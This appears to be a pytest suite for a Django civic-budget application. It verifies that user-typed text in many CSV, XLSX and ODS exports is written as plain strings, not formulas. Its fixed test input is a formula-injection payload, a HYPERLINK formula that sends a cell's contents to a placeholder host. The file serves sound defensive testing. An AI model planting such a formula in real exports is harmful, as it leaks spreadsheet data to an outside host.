"""Formula injection: text people typed never becomes a live formula in any file we produce.

The defect (issue 12): a proposal titled =HYPERLINK("http://x/?"&A1,"clic") came out as a
formula in several exports. Each case below builds its data with the factories, puts the
input in the text people type, produces the real file (view or service), and checks every
cell carrying it: a string in XLSX (never data type "f", no <f> element) and in ODS (a
string cell, no table:formula attribute anywhere), behind a quote in CSV.

Exports covered (the file, and the typed text that carries the input):
- open data of a campaign, CSV (",", ";") and XLSX: proposals, instructions, results
  (proposal title);
- instruction sheet, exported by an administrator and by the finance service (its opinion
  sheet), XLSX and ODS: proposal title, service name, conditions, public reasoning;
- council report workbook and council answer sheet, XLSX and ODS (proposal title);
- results CSV and XLSX (proposal title);
- statistics CSV (",", ";") and XLSX (a table label, e.g. a commune's name);
- shared scenario XLSX (scenario title, measure title);
- measure catalogue XLSX (measure title, description, policy area);
- simulator parameters XLSX (line label, rule description);
- budget lines CSV and XLSX (line label);
- panel draw workbook (volunteer name, area, availability);
- panel pool and quotas CSV (an area typed by a volunteer);
- workshop summary XLSX (group name, argument, choices' name).
Not covered: the voting codes CSV (codes and addresses we generate, nothing typed) and the
pabulib .pb file (a text interchange format, not a spreadsheet).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from decimal import Decimal
from functools import partial

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from budget.imports.params import simulator_params_export
from budget.roles import ADMINISTRATOR, FINANCE
from budget.spreadsheets.reader import open_workbook
from simulator.catalogue import measure_catalogue_export
from simulator.services import scenario_create
from simulator.state import ScenarioState
from tests.factories import make_budget, make_line, make_rule, make_user
from tests.simulator.factories import make_measure, pool_budget
from tests.votes.factories import make_service
from tests.votes.opendata.test_opendata_files import opendata_campaign
from tests.votes.panels.factories import facilitator, panel_campaign
from tests.votes.panels.test_panel_team_views import fake_draw
from tests.votes.results.test_results_services import projects_campaign
from tests.votes.workshops.factories import make_group, make_workshop_setup
from votes.campaigns.workflow import council_send
from votes.council import answers
from votes.council.report import council_workbook
from votes.council.services import council_data
from votes.instruction.models import Instruction
from votes.instruction.sheet_services import instruction_sheet_export
from votes.panels.models import PanelDraw, Volunteer
from votes.proposals.models import Proposal
from votes.statistics.tables import Table, statistics_csv, statistics_workbook
from votes.workshops.services import group_argument_set, group_choices_save

pytestmark = pytest.mark.django_db

INPUT = '=HYPERLINK("http://x/?"&A1,"clic")'
MARK = "HYPERLINK("

# A produced file: ("xlsx", bytes) or ("csv", text, delimiter).
File = tuple


def xlsx(data: bytes) -> File:
    return ("xlsx", data)


def ods(data: bytes) -> File:
    return ("ods", data)


def csv_file(data: bytes | str, delimiter: str = ",") -> File:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data.lstrip("\ufeff")
    return ("csv", text, delimiter)


def _title_proposal(proposal: Proposal) -> None:
    Proposal.objects.filter(pk=proposal.pk).update(title=INPUT)


# --- the exports -------------------------------------------------------------------------------


def opendata_files(client) -> list[File]:
    s = opendata_campaign()
    _title_proposal(s.p1)
    files = []
    for dataset in ("propositions", "instructions", "resultats"):
        kwargs = {"slug": s.campaign.slug, "dataset": dataset}
        csv_url = reverse("votes:opendata_csv", kwargs=kwargs)
        files.append(csv_file(client.get(csv_url).content))
        files.append(csv_file(client.get(csv_url + "?sep=semicolon").content, ";"))
        files.append(xlsx(client.get(reverse("votes:opendata_xlsx", kwargs=kwargs)).content))
    return files


def instruction_files(client) -> list[File]:
    s = projects_campaign(phase="instruction")
    _title_proposal(s.p1)
    service = make_service(s.campaign.authority, name=INPUT)
    Proposal.objects.filter(pk=s.p1.pk).update(service=service)
    Instruction.objects.filter(proposal=s.p1).update(conditions=INPUT, public_reasoning=INPUT)
    files = []
    for role in (ADMINISTRATOR, FINANCE):  # the finance service's opinion sheet
        by = make_user(roles=(role,))
        files.append(xlsx(instruction_sheet_export(campaign=s.campaign, by=by)))
        files.append(ods(instruction_sheet_export(campaign=s.campaign, by=by, file_format="ods")))
    return files


def council_files(client) -> list[File]:
    s = projects_campaign()
    _title_proposal(s.p1)
    admin = make_user(roles=(ADMINISTRATOR,))
    council_send(campaign=s.campaign, by=admin)
    s.campaign.refresh_from_db()
    data, snapshot = council_data(s.campaign)
    sheet = partial(answers.council_answers_sheet, campaign=s.campaign, by=admin, results={})
    return [
        xlsx(council_workbook(data, fingerprint=snapshot.sha256)),
        ods(council_workbook(data, fingerprint=snapshot.sha256, file_format="ods")),
        xlsx(sheet()),
        ods(sheet(file_format="ods")),
    ]


def results_files(client) -> list[File]:
    s = projects_campaign()
    _title_proposal(s.p1)
    kwargs = {"slug": s.campaign.slug}
    return [
        csv_file(client.get(reverse("votes:results_csv", kwargs=kwargs)).content, ";"),
        xlsx(client.get(reverse("votes:results_xlsx", kwargs=kwargs)).content),
    ]


def statistics_files(client) -> list[File]:
    # The tables are built from counts; their labels (communes, areas) are typed by people.
    tables = [Table("origine", "Origine", ["Commune", "Participants"], [[INPUT, 12]])]
    return [
        csv_file(statistics_csv(tables)),
        csv_file(statistics_csv(tables, semicolon=True), ";"),
        xlsx(statistics_workbook(tables, notes=[INPUT])),
    ]


def scenario_files(client) -> list[File]:
    budget, lines = pool_budget()
    make_measure(budget, lines["pool_staff"], slug="m", title=INPUT, amount=Decimal("-45000"))
    scenario = scenario_create(
        budget=budget, owner=make_user(), state=ScenarioState(measures=["m"]), title=INPUT
    )
    return [xlsx(client.get(f"/partage/{scenario.share_token}/export.xlsx").content)]


def catalogue_files(client) -> list[File]:
    budget, lines = pool_budget()
    make_measure(
        budget, lines["pool_staff"], slug="m", title=INPUT, policy_area=INPUT, amount=Decimal("-1")
    )
    return [xlsx(measure_catalogue_export(budget=budget))]


def params_files(client) -> list[File]:
    budget = make_budget()
    source = make_line(budget, label=INPUT)
    target = make_line(budget, account="6411", amount=Decimal("-5"))
    make_rule(source, target, description=INPUT)
    return [xlsx(simulator_params_export(budget=budget))]


def budget_lines_files(client) -> list[File]:
    budget = make_budget()
    make_line(budget, label=INPUT, amount=Decimal("-12.50"))
    base = f"/budgets/{budget.slug}/lignes/?export="
    return [
        csv_file(client.get(base + "csv").content, ";"),
        xlsx(client.get(base + "xlsx").content),
    ]


def panel_files(client) -> list[File]:
    campaign = panel_campaign()
    draw = fake_draw(campaign)
    PanelDraw.objects.filter(pk=draw.pk).update(
        pool=[{"id": "1", "area": INPUT}, {"id": "2", "area": "Nord"}],
        quotas=[{"attribute": "area", "value": INPUT, "min": 1, "max": 1}],
    )
    Volunteer.objects.filter(pk=int(draw.selected[0])).update(
        name=INPUT, area=INPUT, availability=INPUT
    )
    client.force_login(facilitator())
    kwargs = {"slug": campaign.slug, "pk": draw.pk}
    files = [xlsx(client.get(reverse("votes:panel_draw_export", kwargs=kwargs)).content)]
    for name in ("vivier.csv", "quotas.csv"):
        response = client.get(reverse("votes:panel_draw_file", kwargs={**kwargs, "name": name}))
        files.append(csv_file(response.content))
    return files


def workshop_files(client) -> list[File]:
    setup = make_workshop_setup()
    group = make_group(setup, INPUT)
    group_choices_save(group=group, measures=["eclairage-nuit"])
    group_argument_set(group=group, measure=setup.lights, text=INPUT)
    client.force_login(setup.facilitator)
    return [xlsx(client.get(f"/gestion/ateliers/{setup.workshop.pk}/synthese.xlsx").content)]


EXPORTS: dict[str, Callable] = {
    "open data": opendata_files,
    "instruction and finance opinion sheets": instruction_files,
    "council report and answer sheet": council_files,
    "results": results_files,
    "statistics": statistics_files,
    "shared scenario": scenario_files,
    "measure catalogue": catalogue_files,
    "simulator parameters": params_files,
    "budget lines": budget_lines_files,
    "panel workbook, pool and quotas": panel_files,
    "workshop summary": workshop_files,
}


# --- the checks --------------------------------------------------------------------------------


def _check_xlsx(data: bytes) -> int:
    book = load_workbook(io.BytesIO(data))
    found = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and MARK in cell.value:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                    assert cell.data_type == "s"
                    found += 1
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in archive.read(name).decode(), f"a formula in {name}"
    return found


def _check_ods(data: bytes) -> int:
    archive = zipfile.ZipFile(io.BytesIO(data))
    content = archive.read("content.xml").decode()
    assert "table:formula" not in content, "a formula in content.xml"
    reader, error = open_workbook(data)
    assert error is None
    found = 0
    for title in reader.sheetnames:
        for row in reader.rows(title):
            for value in row:
                if isinstance(value, str) and MARK in value:
                    found += 1
    # Each string cell carrying the input is an ODF string, its text as typed.
    strings = re.findall(r'office:value-type="string"[^>]*>(?:<text:p>)?([^<]*)', content)
    assert sum(MARK in text for text in strings) >= found
    return found


def _check_csv(text: str, delimiter: str) -> int:
    found = 0
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for value in row:
            if MARK in value:
                assert value.startswith("'="), f"{value!r} would run as a formula"
                found += 1
    return found


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_it_never_writes_typed_text_as_a_formula(client, export):
    files = export(client)

    assert files
    for produced in files:
        if produced[0] == "xlsx":
            found = _check_xlsx(produced[1])
        elif produced[0] == "ods":
            found = _check_ods(produced[1])
        else:
            found = _check_csv(produced[1], produced[2])
        # The input is there: the check above did look at it.
        assert found, f"the typed text is missing from one {produced[0]} file"
